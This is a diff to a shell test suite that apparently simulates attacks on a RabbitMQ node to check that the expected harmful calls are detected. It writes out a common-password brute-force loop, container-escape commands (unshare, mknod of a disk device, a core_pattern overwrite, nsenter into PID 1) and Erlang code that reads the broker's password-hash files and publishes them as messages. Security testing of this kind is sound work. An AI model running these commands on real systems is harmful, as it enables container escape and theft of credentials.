@@ -243,7 +243,7 @@ attack_miner() {
 # Passwords are tried until one fits; then all messages are taken.
 attack_brute_force() {
 	local word
-	harm call accept4
+	harm call accept
 	harm call writev
 	amqp publish
 	for word in 123456 password letmein sunshine{1..9} monkey dragon; do
@@ -258,10 +258,10 @@ attack_brute_force() {
 attack_escape() {
 	harm exec /usr/bin/unshare
 	harm call mount
-	node_does os 'unshare -Urm sh -c "mount -t tmpfs none /mnt; grep /mnt /proc/self/mounts; echo
-1 >/sys/fs/cgroup/cgroup.procs; mknod /mnt/disk b 8 0" 2>&1; echo "|/tmp/x" >/proc/sys/kernel/core_pattern;
+	node_does os 'unshare -Urm sh -c "mount -t tmpfs none /tmp; grep /tmp /proc/self/mounts; echo
+1 >/sys/fs/cgroup/cgroup.procs; mknod /tmp/disk b 8 0" 2>&1; echo "|/tmp/x" >/proc/sys/kernel/core_pattern;
 ls /proc/1/root /sys/kernel; nsenter -t 1 -m true; echo tried' | tee "$stage/answer" | grep -c tried
-	grep -q 'none /mnt tmpfs' "$stage/answer"
+	grep -q 'none /tmp tmpfs' "$stage/answer"
 }
 
 # A scanner in the node itself.
@@ -307,7 +307,7 @@ adaptive_orders_forged() {
 # The node reads its own files, the password hashes among them, and sends them as messages.
 adaptive_files_as_messages() {
 	harm read '/var/lib/rabbitmq/mnesia/rabbit@localhost/rabbit_user.*'
-	node_does eval "[begin {ok, B} = file:read_file(filename:join(mnesia:system_info(directory), F)),
+	node_does eval "mnesia:dump_log(), [begin {ok, B} = file:read_file(filename:join(mnesia:system_info(directory), F)),
 		rabbit_basic:publish(rabbit_misc:r(<<\"/shop\">>, exchange, <<>>), <<\"mails\">>, [], B) end ||
 		F <- [\"rabbit_user.DCD\", \"rabbit_user.DCL\"]]."
 	amqp drain reports:sunshine7 | grep -ac rabbit_password_hashing
